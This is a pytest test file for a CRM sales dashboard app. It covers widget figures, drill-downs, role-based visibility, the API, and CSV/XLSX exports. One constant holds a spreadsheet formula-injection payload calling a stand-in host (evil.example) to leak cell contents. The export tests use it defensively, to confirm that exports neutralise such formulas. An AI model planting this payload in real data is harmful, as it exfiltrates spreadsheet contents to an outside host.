"""Dashboard pages, drill-downs, exports and the API, as a rep and as a manager see them."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from demo_pages import TODAY, copy_demo
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from test_api import token_for
from test_chinese_pages import english, signed_in

from formflow.web import create_app

OVERVIEW = "/dashboards/crm_sfa/sales_overview"
MINE = "/dashboards/crm_sfa/my_sales"


@pytest.fixture
def demo_app(demo_instance: Path, tmp_path: Path) -> Iterator[Flask]:
    app = create_app(copy_demo(demo_instance, tmp_path / "instance"))
    app.config["TESTING"] = True
    yield app
    app.extensions["formflow"].close()


def widgets(client: FlaskClient, path: str) -> dict[str, dict[str, Any]]:
    response = client.get(path)
    assert response.status_code == 200, response.text
    found = re.findall(r'data-figures="([^"]*)"', response.text)
    return {data["key"]: data for data in (json.loads(html.unescape(text)) for text in found)}


def list_total(client: FlaskClient, link: str) -> int:
    response = client.get(html.unescape(link))
    assert response.status_code == 200
    found = re.search(r'<p class="total muted" role="status">([^<]*)</p>', response.text)
    assert found is not None
    digits = re.sub(r"[^0-9]", "", found[1])
    return int(digits) if digits else 0


def funnel_counts(data: dict[str, Any]) -> dict[str, int]:
    [series] = data["series"]
    return {c["key"]: int(v) for c, v in zip(data["categories"], series["data"], strict=True)}


def test_a_manager_sees_every_widget_of_the_sales_overview(demo_app: Flask) -> None:
    shown = widgets(signed_in(demo_app, "lijing"), OVERVIEW)
    assert len(shown) == 18
    assert [key for key, data in shown.items() if data["problem"]] == []


def test_a_stage_history_drills_into_the_records_behind_each_figure(demo_app: Flask) -> None:
    client = signed_in(demo_app, "lijing")
    data = widgets(client, OVERVIEW)["stage_history"]
    series = {s["key"]: s for s in data["series"]}
    assert [c["key"] for c in data["categories"]][:2] == ["initial_contact", "needs_analysis"]
    for index, category in enumerate(data["categories"]):
        closed = series["closed"]["links"][index]
        assert f"f.stage.ever={category['key']}" in html.unescape(closed)
        assert list_total(client, closed) == int(series["closed"]["data"][index])
        assert list_total(client, series["probability"]["links"][index]) > 0


def test_a_list_says_when_an_ever_filter_names_no_stage(demo_app: Flask) -> None:
    client = signed_in(demo_app, "lijing")
    for value in ("wonn", "won,<script>", ",,", "初步接洽" * 80):
        page = client.get("/crm_sfa/opportunity/", query_string={"f.stage.ever": value})
        assert page.status_code == 200
        assert "不符合该筛选条件" in page.text


def test_a_rep_is_not_shown_the_managers_overview(demo_app: Flask) -> None:
    assert signed_in(demo_app, "liuyang").get(OVERVIEW).status_code == 404


def test_a_reps_funnel_counts_fewer_records_than_the_managers(demo_app: Flask) -> None:
    rep = funnel_counts(widgets(signed_in(demo_app, "liuyang"), MINE)["my_pipeline"])
    manager = funnel_counts(widgets(signed_in(demo_app, "lijing"), MINE)["my_pipeline"])
    assert all(rep.get(stage, 0) <= count for stage, count in manager.items())
    assert sum(rep.values()) < sum(manager.values())


def test_a_funnel_stage_opens_the_list_of_exactly_its_records(demo_app: Flask) -> None:
    client = signed_in(demo_app, "liuyang")
    data = widgets(client, MINE)["my_pipeline"]
    [series] = data["series"]
    for value, link in zip(series["data"], series["links"], strict=True):
        assert list_total(client, link) == int(value)


def test_a_number_opens_the_list_of_the_records_it_counts(demo_app: Flask) -> None:
    client = signed_in(demo_app, "lijing")
    data = widgets(client, MINE)["open_deals"]
    assert list_total(client, data["link"]) == int(data["value"])


def test_a_widget_exports_the_viewers_own_figures_to_csv(demo_app: Flask) -> None:
    client = signed_in(demo_app, "liuyang")
    shown = funnel_counts(widgets(client, MINE)["my_pipeline"])
    response = client.get(MINE + "/my_pipeline.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(int(row[1]) for row in rows[1:]) == sorted(shown.values())


def test_a_widget_exports_to_xlsx(demo_app: Flask) -> None:
    client = signed_in(demo_app, "lijing")
    response = client.get(MINE + "/my_pipeline.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    counts = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(counts) == sorted(funnel_counts(widgets(client, MINE)["my_pipeline"]).values())


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def name_a_closing_deal(app: Flask, name: str) -> None:
    """Rename, as its manager, a deal in "My sales"'s closing-soon table."""
    [row, *_] = widgets(signed_in(app, "lijing"), MINE)["closing_soon"]["rows"]
    api = app.test_client()
    headers = {"Authorization": f"Bearer {token_for(app, 'lijing')}"}
    path = f"/api/v1/crm_sfa/opportunity/records/{row['id']}"
    version = api.get(path, headers=headers).json["version"]
    changed = api.patch(path, json={"name": name, "version": version}, headers=headers)
    assert changed.status_code == 200, changed.text


def test_a_csv_export_quotes_text_a_spreadsheet_would_run_as_a_formula(demo_app: Flask) -> None:
    name_a_closing_deal(demo_app, HOSTILE)
    response = signed_in(demo_app, "lijing").get(MINE + "/closing_soon.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


def test_an_xlsx_export_types_text_as_text_so_no_cell_is_a_formula(demo_app: Flask) -> None:
    name_a_closing_deal(demo_app, HOSTILE)
    response = signed_in(demo_app, "lijing").get(MINE + "/closing_soon.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert [cell.data_type for cell in found] == ["s"]


def test_the_api_returns_the_dashboard_for_the_tokens_user(demo_app: Flask) -> None:
    client = demo_app.test_client()
    headers = {"Authorization": f"Bearer {token_for(demo_app, 'liuyang')}"}
    response = client.get("/api/v1/crm_sfa/dashboards/my_sales", headers=headers)
    assert response.status_code == 200
    by_key = {w["key"]: w for w in response.json["widgets"]}
    page = widgets(signed_in(demo_app, "liuyang"), MINE)
    assert by_key["my_pipeline"]["series"] == page["my_pipeline"]["series"]


def test_the_api_hides_a_dashboard_the_user_may_not_see(demo_app: Flask) -> None:
    client = demo_app.test_client()
    headers = {"Authorization": f"Bearer {token_for(demo_app, 'liuyang')}"}
    response = client.get("/api/v1/crm_sfa/dashboards/sales_overview", headers=headers)
    assert (response.status_code, response.json["error"]["code"]) == (404, "not_found")


def test_the_api_returns_one_widget(demo_app: Flask) -> None:
    client = demo_app.test_client()
    headers = {"Authorization": f"Bearer {token_for(demo_app, 'lijing')}"}
    path = "/api/v1/crm_sfa/dashboards/my_sales/widgets/open_deals"
    response = client.get(path, headers=headers)
    assert (response.status_code, response.json["type"]) == (200, "number")


@pytest.mark.parametrize(
    "path",
    [
        OVERVIEW,
        "/dashboards/crm_sfa/follow_up_calendar",
        "/dashboards/crm_sfa/contract_gantt",
        "/dashboards/crm_sfa/",
    ],
)
def test_dashboard_pages_speak_chinese(demo_app: Flask, path: str) -> None:
    response = signed_in(demo_app, "wangqiang").get(path)
    assert response.status_code == 200
    assert english(response) == []


def test_team_targets_roll_up_and_drill_into_the_teams_deals(demo_app: Flask) -> None:
    client = signed_in(demo_app, "wangqiang")
    month = f"from={TODAY.replace(day=1).isoformat()}&to={TODAY.isoformat()}"  # the demo's month
    data = widgets(client, f"{OVERVIEW}?{month}")["team_targets"]
    assert [c["label"] for c in data["categories"]] == ["销售部", "华东区", "华南区"]
    by_key = {s["key"]: s for s in data["series"]}
    whole, east, south = (Decimal(v) for v in by_key["target"]["data"])
    assert whole == east + south > 0  # the teams' targets, once each
    whole_link, east_link, south_link = by_key["sum_amount"]["links"]
    assert "%2C" in east_link  # f.owner= the team's people, comma-separated
    counts = [list_total(client, link) for link in (whole_link, east_link, south_link)]
    assert counts[1] + counts[2] <= counts[0]


def test_a_department_narrows_the_overview(demo_app: Flask) -> None:
    client = signed_in(demo_app, "wangqiang")
    everyone = widgets(client, OVERVIEW)
    page = client.get(OVERVIEW)
    east = re.search(r'<option value="([0-9]+)"[^>]*>华东区</option>', page.text)
    assert east is not None
    team = widgets(client, f"{OVERVIEW}?department={east[1]}")
    [whole], [part] = everyone["pipeline"]["series"], team["pipeline"]["series"]
    assert sum(Decimal(v) for v in part["data"]) < sum(Decimal(v) for v in whole["data"])
    assert [c["label"] for c in team["team_targets"]["categories"]] == ["华东区"]
    assert [key for key, data in team.items() if data["problem"]] == []


def test_the_forecast_and_the_ageing_draw_their_series(demo_app: Flask) -> None:
    shown = widgets(signed_in(demo_app, "lijing"), OVERVIEW)
    forecast = shown["forecast"]
    assert [s["key"] for s in forecast["series"]] == ["weighted", "won", "pipeline"]
    pairs = zip(forecast["series"][0]["data"], forecast["series"][2]["data"], strict=True)
    for weighted, whole in pairs:
        assert weighted is None or Decimal(weighted) <= Decimal(whole)
    ageing = shown["receivables_ageing"]
    assert [c["key"] for c in ageing["categories"]] == ["0-30", "31-60", "61-90", "90+"]


def test_the_api_takes_a_department(demo_app: Flask) -> None:
    client = demo_app.test_client()
    headers = {"Authorization": f"Bearer {token_for(demo_app, 'wangqiang')}"}
    path = "/api/v1/crm_sfa/dashboards/sales_overview/widgets/team_targets"
    whole = client.get(path, headers=headers)
    assert whole.status_code == 200
    [first, *_] = whole.json["categories"]
    team = client.get(f"{path}?department={whole.json['categories'][1]['key']}", headers=headers)
    assert team.status_code == 200
    assert [c["key"] for c in team.json["categories"]] == [whole.json["categories"][1]["key"]]
    assert first["label"] == "销售部"


def test_a_field_filter_is_labelled_with_its_fields_label(demo_app: Flask) -> None:
    """A filter on a field, given no label of its own, showed its key (``status``) to
    every viewer; it takes the field's label, in the viewer's language."""
    page = signed_in(demo_app, "wangqiang").get("/dashboards/crm_sfa/contract_gantt")
    label = re.search(r'<label>\s*([^<]*?)\s*<select name="status">', page.text)
    assert label is not None
    assert label[1] == "合同状态"
